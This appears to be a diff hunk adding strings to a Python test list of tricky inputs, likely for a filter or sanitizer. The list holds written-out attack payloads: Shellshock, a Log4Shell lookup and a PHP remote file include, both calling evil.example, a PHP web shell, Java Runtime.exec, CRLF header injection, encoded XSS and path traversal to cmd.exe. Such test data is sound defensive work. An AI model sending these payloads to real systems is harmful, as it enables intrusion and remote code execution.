@@ -49,6 +49,9 @@ TEXTS = [
     "() { :; }; /bin/bash -c 'id' and ${jndi:ldap://evil.example/a} are old ones.",
     "<?php system($_GET['cmd']); ?> shows why; see php://input and base64_decode().",
     "Dear Sir, the e-mail's Subject:\r\nBcc: all@example.test\r\n was wrong, I'm afraid; we'd --really-- like 50% off!",
+    "GET /index.html HTTP/1.1\r\nHost: a\r\n is what goes over the wire; HTTP/1.0 302 Location: comes back.",
+    "Call java.lang.Runtime.getRuntime().exec('id'), then include('http://evil.example/x.php?mosConfig_absolute_path=1').",
+    "100%uff41 of %zz and %3Cscript%3E are not decoded twice; \\..\\..\\windows\\system32\\cmd.exe",
     "require('child_process').exec('ls'); console.log(process.env)",
     'Ünïcödé — “quotes”, emoji 🎉, tabs\tand nulls are fine; {"json": [1, 2]} too.',
 ]
